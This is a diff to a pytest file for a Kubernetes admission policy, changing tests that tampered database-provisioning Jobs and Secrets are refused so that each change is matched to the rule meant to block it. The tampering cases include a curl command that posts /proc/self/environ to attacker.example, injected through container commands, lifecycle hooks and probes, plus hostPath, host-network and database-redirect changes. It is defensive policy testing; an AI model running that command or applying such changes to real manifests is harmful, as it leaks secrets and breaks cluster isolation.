@@ -362,56 +362,76 @@ def _renamed(job: Manifest) -> None:
 
 
 SHELL = ["sh", "-c", "curl https://attacker.example -d @/proc/self/environ"]
-TAMPERED: dict[str, Callable[[Manifest], None]] = {
-    "other image": _in_container("image", "attacker.example/api@sha256:" + "0" * 64),
-    "other ServiceAccount": _pod("serviceAccountName", "record-api"),
-    "API token mounted": _pod("automountServiceAccountToken", True),
-    "extra container": _extra_container,
-    "init container": _init_container,
-    "a shell command": _in_container("command", SHELL),
-    "args": _in_container("args", ["--drop"]),
-    "a postStart hook": _in_container("lifecycle", {"postStart": {"exec": {"command": SHELL}}}),
-    "an exec probe": _in_container("livenessProbe", {"exec": {"command": SHELL}}),
-    "DB_HOST changed": _env("DB_HOST", "db.attacker.example"),
-    "DB_PORT changed": _env("DB_PORT", "6432"),
-    "master secret changed": _env("DB_MASTER_SECRET_ARN", "arn:aws:secretsmanager:x"),
-    "PGSSLMODE added": _env("PGSSLMODE", "disable"),
-    "PYTHONSTARTUP added": _env("PYTHONSTARTUP", "/tmp/x.py"),
-    "DB_NAME=record": _env("DB_NAME", "record"),
-    "DB_OWNER_USER=record": _env("DB_OWNER_USER", "record"),
-    "DB_PREVIEW_NUMBER mismatching the name": _env("DB_PREVIEW_NUMBER", "7"),
-    "another preview's numbers": _another_preview,
-    "DB_HOST from a secret": _in_container(
-        "env",
-        [{"name": "DB_HOST", "valueFrom": {"secretKeyRef": {"name": "x", "key": "host"}}}],
+# The rule each change must be refused by: a word of its message.
+NAME, ACCOUNT, SHAPE, IMAGE = "write only", "runs as", "one container", "API image"
+ENV, ENV_FROM = "environment", "Secret alone"
+TAMPERED: dict[str, tuple[Callable[[Manifest], None], str]] = {
+    "other image": (_in_container("image", "attacker.example/api@sha256:" + "0" * 64), IMAGE),
+    "other ServiceAccount": (_pod("serviceAccountName", "record-api"), ACCOUNT),
+    "API token mounted": (_pod("automountServiceAccountToken", True), ACCOUNT),
+    "extra container": (_extra_container, SHAPE),
+    "init container": (_init_container, SHAPE),
+    "a shell command": (_in_container("command", SHELL), IMAGE),
+    "args": (_in_container("args", ["--drop"]), IMAGE),
+    "a postStart hook": (
+        _in_container("lifecycle", {"postStart": {"exec": {"command": SHELL}}}),
+        IMAGE,
     ),
-    "envFrom another secret": _in_container("envFrom", [{"secretRef": {"name": "record-secrets"}}]),
-    "envFrom a second source": _in_container(
-        "envFrom",
-        [
-            {"secretRef": {"name": "record-db-provision-pr-0"}},
-            {"configMapRef": {"name": "record-config"}},
-        ],
+    "an exec probe": (_in_container("livenessProbe", {"exec": {"command": SHELL}}), IMAGE),
+    "DB_HOST changed": (_env("DB_HOST", "db.attacker.example"), ENV),
+    "DB_PORT changed": (_env("DB_PORT", "6432"), ENV),
+    "master secret changed": (_env("DB_MASTER_SECRET_ARN", "arn:aws:secretsmanager:x"), ENV),
+    "PGSSLMODE added": (_env("PGSSLMODE", "disable"), ENV),
+    "PYTHONSTARTUP added": (_env("PYTHONSTARTUP", "/tmp/x.py"), ENV),
+    "DB_NAME=record": (_env("DB_NAME", "record"), ENV),
+    "DB_OWNER_USER=record": (_env("DB_OWNER_USER", "record"), ENV),
+    "DB_PREVIEW_NUMBER mismatching the name": (_env("DB_PREVIEW_NUMBER", "7"), ENV),
+    "another preview's numbers": (_another_preview, ENV),
+    "DB_HOST from a secret": (
+        _in_container(
+            "env",
+            [{"name": "DB_HOST", "valueFrom": {"secretKeyRef": {"name": "x", "key": "host"}}}],
+        ),
+        ENV,
     ),
-    "hostPath volume": _pod("volumes", [{"name": "tmp", "hostPath": {"path": "/"}}]),
-    "secret volume": _pod("volumes", [{"name": "tmp", "secret": {"secretName": "record-secrets"}}]),
-    "host network": _pod("hostNetwork", True),
-    "name outside the pattern": _renamed,
+    "envFrom another secret": (
+        _in_container("envFrom", [{"secretRef": {"name": "record-secrets"}}]),
+        ENV_FROM,
+    ),
+    "envFrom a second source": (
+        _in_container(
+            "envFrom",
+            [
+                {"secretRef": {"name": "record-db-provision-pr-0"}},
+                {"configMapRef": {"name": "record-config"}},
+            ],
+        ),
+        ENV_FROM,
+    ),
+    "hostPath volume": (_pod("volumes", [{"name": "tmp", "hostPath": {"path": "/"}}]), SHAPE),
+    "secret volume": (
+        _pod("volumes", [{"name": "tmp", "secret": {"secretName": "record-secrets"}}]),
+        SHAPE,
+    ),
+    "host network": (_pod("hostNetwork", True), ACCOUNT),
+    "name outside the pattern": (_renamed, NAME),
 }
 
 
-@pytest.mark.parametrize("change", TAMPERED.values(), ids=TAMPERED.keys())
+@pytest.mark.parametrize(("change", "rule"), TAMPERED.values(), ids=TAMPERED.keys())
 @pytest.mark.parametrize("name", ["job", "drop"])
 def test_a_tampered_job_is_refused(
     objects: dict[str, Manifest],
     policy: Policy,
     name: str,
     change: Callable[[Manifest], None],
+    rule: str,
 ) -> None:
     job = copy.deepcopy(objects[name])
     change(job)
-    assert policy.refusals(_request(job), job)
-    assert policy.refusals(_request(job, "UPDATE"), job)
+    for operation in ("CREATE", "UPDATE"):
+        refusals = policy.refusals(_request(job, operation), job)
+        assert any(rule in message for message in refusals), refusals
 
 
 def _with_key(secret: Manifest) -> None:
@@ -426,20 +446,22 @@ def _token(secret: Manifest) -> None:
     secret.pop("stringData")
 
 
-SECRETS: dict[str, Callable[[Manifest], None]] = {
-    "an extra key PGHOST": _with_key,
-    "a ServiceAccount token": _token,
-    "name outside the pattern": _renamed,
+PASSWORDS_ALONE = "login passwords alone"
+SECRETS: dict[str, tuple[Callable[[Manifest], None], str]] = {
+    "an extra key PGHOST": (_with_key, PASSWORDS_ALONE),
+    "a ServiceAccount token": (_token, PASSWORDS_ALONE),
+    "name outside the pattern": (_renamed, NAME),
 }
 
 
-@pytest.mark.parametrize("change", SECRETS.values(), ids=SECRETS.keys())
+@pytest.mark.parametrize(("change", "rule"), SECRETS.values(), ids=SECRETS.keys())
 def test_a_tampered_secret_is_refused(
-    objects: dict[str, Manifest], policy: Policy, change: Callable[[Manifest], None]
+    objects: dict[str, Manifest], policy: Policy, change: Callable[[Manifest], None], rule: str
 ) -> None:
     secret = copy.deepcopy(objects["secret"])
     change(secret)
-    assert policy.refusals(_request(secret), secret)
+    refusals = policy.refusals(_request(secret), secret)
+    assert any(rule in message for message in refusals), refusals
 
 
 def test_other_names_in_the_base_namespace_are_refused_by_both(
